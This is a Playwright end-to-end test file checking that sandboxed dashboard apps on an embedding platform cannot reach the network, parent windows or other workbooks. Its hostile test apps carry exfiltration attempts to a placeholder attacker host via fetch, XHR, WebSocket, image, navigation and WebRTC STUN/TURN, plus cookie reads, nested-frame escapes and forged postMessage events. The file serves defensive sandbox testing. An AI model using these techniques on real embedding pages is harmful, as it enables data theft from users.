import dgram from "node:dgram";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { E2E } from "./support/env";
import { createSession, dashboardUrl, eventsOf, getDemoConfig, mark, recorded, waitForEvent } from "./support/embed-harness";

// Dashboards of kind APP: the app's code runs in a sandboxed frame (opaque origin, a CSP with
// no network). The demo funnel app shows the channel working (reports, filters, drilldown,
// scheme); a hostile app shows that nothing leaves the frame and nothing forged reaches the host.

const auth = { authorization: `Bearer ${E2E.adminToken}` };

async function api<T>(request: APIRequestContext, method: "put" | "post" | "patch" | "get", path: string, data?: unknown): Promise<T> {
  const response = await request.fetch(`${E2E.platformUrl}${path}`, { method: method.toUpperCase(), headers: auth, ...(data === undefined ? {} : { data }) });
  expect(response.ok(), `${method} ${path}: ${response.status()} ${await response.text()}`).toBe(true);
  return (await response.json()) as T;
}

async function demoAppPublicId(request: APIRequestContext): Promise<string> {
  const response = await request.get(`${E2E.demoHostUrl}/config.json`);
  const config = (await response.json()) as { appDashboardPublicId: string | null };
  expect(config.appDashboardPublicId).toMatch(/^[0-9A-Za-z]{12}$/);
  return config.appDashboardPublicId!;
}

async function createAppDashboard(request: APIRequestContext, slug: string, app: Record<string, unknown>, reportQuery?: Record<string, unknown>) {
  const { deploymentId } = await getDemoConfig(request);
  const workbook = await api<{ id: number }>(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/${slug}`, { name: slug });
  let reportId: number | null = null;
  if (reportQuery) {
    const publicId = ("e2e" + slug.replace(/[^0-9A-Za-z]/g, "") + "000000000000").slice(0, 12);
    reportId = (
      await api<{ id: number }>(request, "put", `/api/v1/deployments/${deploymentId}/reports/by-public-id/${publicId}`, {
        name: `${slug.replace(/-/g, "_")}_report`,
        kind: "table",
        query: reportQuery,
        workbookId: workbook.id,
      })
    ).id;
  }
  await api(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/${slug}`, { meta: { dashboardDraft: { kind: "APP", title: slug, app } } });
  const dashboard = await api<{ publicId: string }>(request, "post", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/dashboard/publish`);
  await api(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/embed-access`, {
    rules: [{ embedTenantName: null, action: "read" }],
  });
  await api(request, "patch", `/api/v1/embed/dashboard/${dashboard.publicId}`, { allowEmbed: true });
  return { publicId: dashboard.publicId, reportId };
}

async function openInHost(page: Page, publicId: string) {
  const sessionId = await createSession(page.request);
  await page.goto(`${E2E.hostUrl}/host.html?embed=${encodeURIComponent(dashboardUrl(publicId, sessionId))}`);
}

test("the demo funnel app reads its reports, sets filters, drills down and follows the scheme", async ({ page }) => {
  const publicId = await demoAppPublicId(page.request);
  await openInHost(page, publicId);
  const loaded = await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
  expect(loaded.payload).toMatchObject({ publicId, widgetCount: 1 });
  const app = page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
  const placed = app.locator("[data-stage=placed] b");
  await expect(placed).toHaveText(/^[\d,]+$/);
  const before = Number((await placed.textContent())!.replace(/,/g, ""));
  expect(before).toBeGreaterThan(0);
  // vega-embed came from the platform's own library folder and drew the chart.
  await expect(app.locator("#chart svg")).toBeVisible();

  // The app's Python report ran on the platform and came back as HTML.
  await expect(app.getByTestId("python-summary")).toContainText("completed", { timeout: 60_000 });
  // A category button sets a dashboard filter: the host hears filters-changed, the funnel shrinks.
  const from = await mark(page);
  await app.locator("#cats button").nth(1).click();
  const changed = await waitForEvent(page, "svc:event:filters-changed", { from });
  expect(JSON.stringify(changed.payload)).toContain("sales.products_category");
  await expect.poll(async () => Number((await placed.textContent())!.replace(/,/g, ""))).toBeLessThan(before);

  // A stage click is a drilldown event from the embed.
  await app.locator("[data-stage=shipped]").click();
  const drill = await waitForEvent(page, "svc:event:drilldown", { from });
  expect(drill.payload).toMatchObject({ member: "sales.count", value: "Shipped", widgetId: "app" });

  // The scheme action reaches the app.
  await page.evaluate(() =>
    (window as unknown as { __post(d: unknown): void }).__post({
      source: "svc-embed",
      direction: "action",
      type: "svc:action:set-color-scheme",
      payload: { scheme: "dark" },
      timestamp: Date.now(),
    }),
  );
  await expect(app.locator("html")).toHaveAttribute("data-scheme", "dark");
  expect((await eventsOf(page, "svc:event:error")).filter((e) => e.payload.context === "app")).toEqual([]);
});

const HOSTILE_APP = String.raw`<pre id="out">{}</pre>
<script>
  const results = {};
  const note = (key, value) => { results[key] = value; document.getElementById("out").textContent = JSON.stringify(results); };
  async function attempt(key, fn) {
    try { note(key, "reached:" + String(await fn()).slice(0, 60)); } catch (e) { note(key, "blocked:" + ((e && e.name) || "error")); }
  }
  const envelope = (type, payload) => ({ source: "svc-embed", direction: "event", type, payload, timestamp: Date.now(), surface: "dashboard" });
  (async () => {
    await attempt("fetchAttacker", () => fetch("__ATTACKER__/exfil?from=app").then((r) => r.status));
    await attempt("fetchPlatform", () => fetch("__PLATFORM__/api/v1/embed/dashboard/__PUBLIC_ID__").then((r) => r.status));
    await attempt("xhr", () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open("GET", "__ATTACKER__/xhr"); x.onload = () => resolve(x.status); x.onerror = () => reject(new TypeError("xhr")); x.send(); }));
    await attempt("websocket", () => new Promise((resolve, reject) => {
      const ws = new WebSocket("__ATTACKER_WS__/socket");
      ws.onopen = () => resolve("open");
      ws.onerror = () => reject(new TypeError("ws"));
      setTimeout(() => reject(new TypeError("ws-timeout")), 3000);
    }));
    await attempt("image", () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve("loaded"); i.onerror = () => reject(new TypeError("img")); i.src = "__ATTACKER__/pixel.png"; }));
    await attempt("parentDocument", () => parent.document.title);
    await attempt("topDocument", () => top.document.cookie);
    await attempt("cookie", () => document.cookie);
    await attempt("storage", () => localStorage.length);
    await attempt("topNavigation", () => { top.location.href = "__ATTACKER__/navigated"; return "assigned"; });
    await attempt("foreignReport", () => svc.query(__FOREIGN_REPORT__).then((r) => r.rows.length));
    await attempt("ownReport", () => svc.query(__OWN_REPORT__).then((r) => r.rows.length));
    // Forged events: to the embed and straight to the host page.
    parent.postMessage(envelope("svc:event:drilldown", { member: "forged.to_embed" }), "*");
    top.postMessage(envelope("svc:event:drilldown", { member: "forged.to_host" }), "*");
    top.postMessage(envelope("svc:event:dashboard-loaded", { publicId: "forged" }), "*");
    // Host actions from the app, as if it were the host: the embed refuses them (wrong origin).
    parent.postMessage({ source: "svc-embed", direction: "action", type: "svc:action:set-filter", payload: { filterUrlParameter: 'f_sales.status={"value":"forged"}' }, timestamp: Date.now() }, "*");
    // App messages with extra keys or bad fields are dropped by the channel guard.
    parent.postMessage({ source: "svc-app", type: "app:drilldown", member: "forged.extra_key", extra: 1 }, "*");
    parent.postMessage({ source: "svc-app", type: "app:drilldown", member: "not a member" }, "*");
    note("finished", true);
    svc.loaded();
  })();
</script>`;

test("a hostile app reaches no network, no parent, no top window, no other workbook, and forges nothing", async ({ page }) => {
  const { dashboardPublicId } = await getDemoConfig(page.request);
  const demo = await api<{ dashboard: { reportSnapshots: { reportId: number }[] } }>(page.request, "get", `/api/v1/embed/dashboard/${dashboardPublicId}`);
  const foreign = demo.dashboard.reportSnapshots[0]!.reportId;
  // Chromium may list a request the policy then blocks (net::ERR_BLOCKED_BY_CSP); what counts is
  // that none to the attacker completed or failed for any other reason (i.e. was sent).
  const finished: string[] = [];
  const failed: { url: string; error: string }[] = [];
  page.on("requestfinished", (r) => finished.push(r.url()));
  page.on("requestfailed", (r) => failed.push({ url: r.url(), error: r.failure()?.errorText ?? "" }));
  const html = HOSTILE_APP.replace(/__ATTACKER__/g, E2E.attackerUrl)
    .replace(/__ATTACKER_WS__/g, E2E.attackerUrl.replace("http", "ws"))
    .replace(/__PLATFORM__/g, E2E.platformUrl)
    .replace(/__FOREIGN_REPORT__/g, String(foreign));
  const created = await createAppDashboard(page.request, "e2e-hostile-app", { html: "placeholder" }, { measures: ["sales.count"] });
  // The own report id is known only now: store the real app and publish again.
  const { deploymentId } = await getDemoConfig(page.request);
  const finalHtml = html.replace(/__OWN_REPORT__/g, String(created.reportId)).replace(/__PUBLIC_ID__/g, created.publicId);
  const workbook = await api<{ id: number }>(page.request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/e2e-hostile-app`, {
    meta: { dashboardDraft: { kind: "APP", title: "Hostile app", app: { html: finalHtml } } },
  });
  await api(page.request, "post", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/dashboard/publish`);

  const hostUrl = `${E2E.hostUrl}/host.html`;
  await openInHost(page, created.publicId);
  await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
  const app = page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
  await expect(app.locator("#out")).toContainText('"finished":true', { timeout: 15_000 });
  const results = JSON.parse((await app.locator("#out").textContent())!) as Record<string, string>;
  for (const key of ["fetchAttacker", "fetchPlatform", "xhr", "websocket", "image", "parentDocument", "topDocument", "cookie", "storage", "topNavigation"]) {
    expect(results[key], key).toMatch(/^blocked:/);
  }
  expect(results.foreignReport).toMatch(/^blocked:/);
  expect(results.ownReport).toBe("reached:1");

  // Nothing went to the attacker, and the app made no API call of its own.
  expect(finished.filter((u) => u.startsWith(E2E.attackerUrl) || u.includes("/exfil") || u.includes("/xhr") || u.includes("/pixel.png"))).toEqual([]);
  expect(failed.filter((f) => f.url.startsWith(E2E.attackerUrl) && !/BLOCKED_BY_CSP|ERR_BLOCKED|^csp$/i.test(f.error))).toEqual([]);
  expect(page.url().startsWith(hostUrl)).toBe(true);

  // Forged events reached the host only as messages not from the embed's window; the embed sent none.
  const all = await recorded(page);
  const forged = all.filter((m) => JSON.stringify(m.data).includes("forged"));
  expect(forged.length).toBeGreaterThan(0);
  expect(forged.every((m) => !m.fromEmbed)).toBe(true);
  const fromEmbed = all.filter((m) => m.fromEmbed).map((m) => JSON.stringify(m.data));
  expect(fromEmbed.some((d) => d.includes("forged"))).toBe(false);
  expect((await eventsOf(page, "svc:event:dashboard-loaded")).filter((e) => e.payload.publicId === created.publicId)).toHaveLength(1);
  expect(await eventsOf(page, "svc:event:filters-changed")).toEqual([]);
});

test("the app channel is its port: app messages posted to the embed's window, or over a second port, are ignored", async ({ page }) => {
  // Well-formed app messages (they would pass the channel's guard) sent around the port: to the
  // embed's window directly, and over a port of the app's own offered in a second `app:connect`.
  // Then the same kind of message through `svc`, over the channel's port, as the control.
  const { publicId } = await createAppDashboard(page.request, "e2e-port-only-app", {
    html: String.raw`<p id="out">waiting</p><script>
      const app = (message) => Object.assign({ source: "svc-app" }, message);
      function around() {
        parent.postMessage(app({ type: "app:drilldown", member: "sales.status", value: "via-window" }), "*");
        parent.postMessage(app({ type: "app:set-filter", member: "sales.status", filter: { operator: "equals", value: "via-window" } }), "*");
        parent.postMessage(app({ type: "app:error", message: "via-window", name: "Forged" }), "*");
        const second = new MessageChannel();
        parent.postMessage(app({ type: "app:connect" }), "*", [second.port2]);
        second.port1.postMessage(app({ type: "app:drilldown", member: "sales.status", value: "via-second-port" }));
        second.port1.postMessage(app({ type: "app:loaded" }));
      }
      // While the document loads, and again once it has.
      around();
      addEventListener("load", () => setTimeout(around, 200));
      addEventListener("load", () => setTimeout(() => {
        svc.drilldown("sales.status", "through-port");
        svc.loaded();
        document.getElementById("out").textContent = "sent";
      }, 700));
    </script>`,
  });
  await openInHost(page, publicId);
  const loaded = await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
  expect(loaded.payload).toMatchObject({ publicId, widgetCount: 1 });
  const drill = await waitForEvent(page, "svc:event:drilldown");
  expect(drill.payload).toMatchObject({ member: "sales.status", value: "through-port", widgetId: "app" });
  // Give anything that slipped through time to arrive, then look at everything the embed sent.
  await page.waitForTimeout(500);
  const fromEmbed = (await recorded(page)).filter((m) => m.fromEmbed).map((m) => JSON.stringify(m.data));
  // Only the app's own `loaded` (over the port, after its drilldown) ended the load, not the second port's.
  const at = (type: string) => fromEmbed.findIndex((d) => d.includes(`"type":"${type}"`));
  expect(at("svc:event:dashboard-loaded")).toBeGreaterThan(at("svc:event:drilldown"));
  expect(fromEmbed.filter((d) => d.includes("via-window") || d.includes("via-second-port"))).toEqual([]);
  expect(await eventsOf(page, "svc:event:drilldown")).toHaveLength(1);
  expect(await eventsOf(page, "svc:event:filters-changed")).toEqual([]);
  expect((await eventsOf(page, "svc:event:error")).filter((e) => e.payload.context === "app")).toEqual([]);
});

// WebRTC is not governed by the policy: the runtime removes it before the app's code runs, a
// document the app makes in a nested frame (a fresh realm) runs no script of its own, and the
// app's own scripts, which it can load there, remove it first.
const WEBRTC_APP = String.raw`<pre id="out">{}</pre>
<script>
  const CONFIG = { iceServers: [{ urls: "stun:__UDP_HOST__" }, { urls: "turn:__UDP_HOST__?transport=udp", username: "exfil-from-app", credential: "x" }] };
  if (window.name === "nested") {
    // This same script, loaded by the app in a nested frame of its own: a fresh window.
    parent.postMessage("own-script-nested:" + typeof RTCPeerConnection + ":" + typeof webkitRTCPeerConnection, "*");
    if (typeof RTCPeerConnection === "function") { const pc = new RTCPeerConnection(CONFIG); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)); }
  } else {
  const results = {};
  const note = (key, value) => { results[key] = value; document.getElementById("out").textContent = JSON.stringify(results); };
  async function attempt(key, get) {
    try {
      const RTC = get();
      if (typeof RTC !== "function") return note(key, "blocked:" + typeof RTC);
      const pc = new RTC(CONFIG);
      pc.createDataChannel("exfil");
      await pc.setLocalDescription(await pc.createOffer());
      await new Promise((r) => setTimeout(r, 1500));
      note(key, "reached:" + pc.iceGatheringState);
    } catch (e) { note(key, "blocked:" + ((e && e.name) || "error")); }
  }
  // Script of its own in a nested document: an element, an event handler, a javascript: URL.
  const NESTED = "<script>const pc = new RTCPeerConnection(" + JSON.stringify(CONFIG) + "); pc.createDataChannel('x');" +
    "pc.createOffer().then((o) => pc.setLocalDescription(o)); parent.postMessage('nested-script-ran', '*');<\/script>" +
    "<img src=x onerror=\"parent.postMessage('nested-handler-ran', '*')\">";
  addEventListener("message", (e) => { if (typeof e.data === "string") note("message:" + e.data, true); });
  const me = document.currentScript.src;
  (async () => {
    await attempt("direct", () => window.RTCPeerConnection);
    await attempt("webkit", () => window.webkitRTCPeerConnection);
    await attempt("blankFrame", () => { const f = document.createElement("iframe"); document.body.appendChild(f); return f.contentWindow.RTCPeerConnection; });
    const srcdoc = document.createElement("iframe"); srcdoc.srcdoc = NESTED; document.body.appendChild(srcdoc);
    const js = document.createElement("iframe"); js.src = "javascript:parent.postMessage('nested-javascript-url-ran', '*')"; document.body.appendChild(js);
    const blob = document.createElement("iframe"); blob.src = URL.createObjectURL(new Blob([NESTED], { type: "text/html" })); document.body.appendChild(blob);
    const own = document.createElement("iframe"); own.name = "nested"; own.srcdoc = '<script src="' + me + '"><\/script>'; document.body.appendChild(own);
    const script = document.createElement("script"); script.textContent = "window.postMessage('inserted-script-ran', '*')"; document.body.appendChild(script);
    await new Promise((r) => setTimeout(r, 2000));
    note("finished", true);
    svc.loaded();
  })();
  }
</script>`;

test("an app gets no WebRTC: not in its window, not from a nested document, not from its own script loaded in one", async ({ page }) => {
  // The attacker's STUN/TURN server: a UDP socket on the attacker's port number.
  const port = Number(new URL(E2E.attackerUrl).port);
  const packets: number[] = [];
  const udp = dgram.createSocket("udp4");
  udp.on("message", (m) => packets.push(m.length));
  await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", () => resolve()));
  try {
    const html = WEBRTC_APP.replace(/__UDP_HOST__/g, `127.0.0.1:${port}`);
    const { publicId } = await createAppDashboard(page.request, "e2e-webrtc-app", { html });
    await openInHost(page, publicId);
    await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
    const app = page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
    await expect(app.locator("#out")).toContainText('"finished":true', { timeout: 20_000 });
    const results = JSON.parse((await app.locator("#out").textContent())!) as Record<string, string>;
    expect(results.direct).toBe("blocked:undefined");
    expect(results.webkit).toBe("blocked:undefined");
    expect(results.blankFrame).toMatch(/^blocked:/);
    // The app's own script ran in the nested frame, without WebRTC; no other script ran there,
    // nor one the app inserted.
    expect(Object.keys(results).filter((k) => k.startsWith("message:"))).toEqual(["message:own-script-nested:undefined:undefined"]);
    await page.waitForTimeout(500);
    expect(packets).toEqual([]);
  } finally {
    udp.close();
  }
});

test("an app that never says loaded still ends in dashboard-loaded after the time-out, with an error", async ({ page }) => {
  const { publicId } = await createAppDashboard(page.request, "e2e-silent-app", { html: "<p>I never report loaded</p>" });
  // The page's clocks (the embed's frame included) run as usual, and are moved past the embed's
  // time-out (10 s, use-app-channel.ts) once the app is in place, instead of waiting it out.
  await page.clock.install();
  await openInHost(page, publicId);
  await expect(page.frameLocator("#embed").locator("[data-testid=app-frame]")).toBeAttached({ timeout: 30_000 });
  // Not before its time: no error while the app is still within it.
  expect(await eventsOf(page, "svc:event:error")).toHaveLength(0);
  await page.clock.fastForward(15_000);
  const error = await waitForEvent(page, "svc:event:error", { payload: { name: "AppLoadTimeout" }, timeout: 30_000 });
  expect(error.payload).toMatchObject({ context: "app", fatal: false });
  const loaded = await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 5000 });
  expect(loaded.payload).toMatchObject({ publicId, widgetCount: 1 });
});

test("an app built from files and an entry loads its own scripts; an unknown dependency is refused", async ({ page }) => {
  const { publicId } = await createAppDashboard(page.request, "e2e-files-app", {
    entry: "index.html",
    files: {
      "index.html": '<link rel="stylesheet" href="app.css"><p id="msg">waiting</p><script src="./app.js"></script>',
      "app.css": "#msg { color: rgb(1, 2, 3); }",
      "app.js": "document.getElementById('msg').textContent = typeof leftPad === 'undefined' ? 'ran from files' : 'left-pad loaded'; svc.loaded();",
    },
    manifest: { dependencies: { "left-pad": "1.3.0" } },
  });
  await openInHost(page, publicId);
  const error = await waitForEvent(page, "svc:event:error", { payload: { name: "AppDependencyRefused" }, timeout: 30_000 });
  expect(String(error.payload.message)).toContain("left-pad");
  await waitForEvent(page, "svc:event:dashboard-loaded");
  const app = page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
  await expect(app.locator("#msg")).toHaveText("ran from files");
  await expect(app.locator("#msg")).toHaveCSS("color", "rgb(1, 2, 3)");
});

test("an app that navigates its own frame to carry data out is blocked, and its channel closes", async ({ page }) => {
  const requests: string[] = [];
  page.on("requestfinished", (r) => requests.push(r.url()));
  const { publicId } = await createAppDashboard(page.request, "e2e-navigating-app", {
    html: `<script>svc.loaded(); setTimeout(() => { location.href = "${E2E.attackerUrl}/selfnav?d=secret"; }, 100);</script>`,
  });
  await openInHost(page, publicId);
  await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
  const error = await waitForEvent(page, "svc:event:error", { payload: { name: "AppNavigated" } });
  expect(error.payload).toMatchObject({ context: "app", fatal: false });
  expect(requests.filter((u) => u.includes("selfnav"))).toEqual([]);
});

test("a Python report in a classic dashboard shows what its code returned, with the dashboard's filters", async ({ page }) => {
  const { deploymentId } = await getDemoConfig(page.request);
  const report = await api<{ id: number }>(page.request, "put", `/api/v1/deployments/${deploymentId}/reports/by-public-id/e2ePython001`, {
    name: "e2e_python_status",
    title: "Python status",
    kind: "html",
    query: { measures: ["sales.count"], dimensions: ["sales.status"] },
    meta: { python: "print('statuses:', len(rows))\nreport.html('<ul>' + ''.join(f\"<li>{r['sales.status']}</li>\" for r in rows) + '</ul>')" },
  });
  const workbook = await api<{ id: number }>(page.request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/e2e-python-widget`, {
    name: "Python widget",
    meta: {
      dashboardDraft: {
        title: "Python widget",
        widgets: [
          {
            id: "status",
            type: "FILTER",
            position: { x: 0, y: 0, w: 4, h: 2 },
            config: { member: "sales.status", control: "values", label: "Status", multiple: true },
          },
          { id: "py", type: "CHART", position: { x: 0, y: 2, w: 12, h: 6 }, config: { reportId: report.id } },
        ],
      },
    },
  });
  const dashboard = await api<{ publicId: string }>(page.request, "post", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/dashboard/publish`);
  await api(page.request, "put", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/embed-access`, {
    rules: [{ embedTenantName: null, action: "read" }],
  });
  await api(page.request, "patch", `/api/v1/embed/dashboard/${dashboard.publicId}`, { allowEmbed: true });
  const sessionId = await createSession(page.request);
  await page.goto(`${E2E.hostUrl}/host.html?embed=${encodeURIComponent(dashboardUrl(dashboard.publicId, sessionId))}`);
  await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 90_000 });
  const widget = page.frameLocator("#embed").getByTestId("widget-py");
  await expect(widget).toHaveAttribute("data-state", "ready");
  const html = page.frameLocator("#embed").getByTestId("python-py").frameLocator("iframe");
  await expect(html.locator("li")).toHaveCount(5);
  // A filter from the host re-runs the Python with it.
  await page.evaluate(() =>
    (window as unknown as { __post(d: unknown): void }).__post({
      source: "svc-embed",
      direction: "action",
      type: "svc:action:set-filter",
      payload: { filterUrlParameter: 'f_sales.status={"value":"completed"}' },
      timestamp: Date.now(),
    }),
  );
  await expect(html.locator("li")).toHaveCount(1, { timeout: 60_000 });
  await expect(html.locator("li")).toHaveText("completed");
});

test("an entry longer than 255 characters is refused with a 400", async ({ request }) => {
  const { deploymentId } = await getDemoConfig(request);
  const response = await request.put(`${E2E.platformUrl}/api/v1/deployments/${deploymentId}/workbooks/by-slug/e2e-long-entry`, {
    headers: auth,
    data: { meta: { dashboardDraft: { kind: "APP", app: { entry: "e".repeat(256), files: {} } } } },
  });
  expect(response.status()).toBe(400);
});
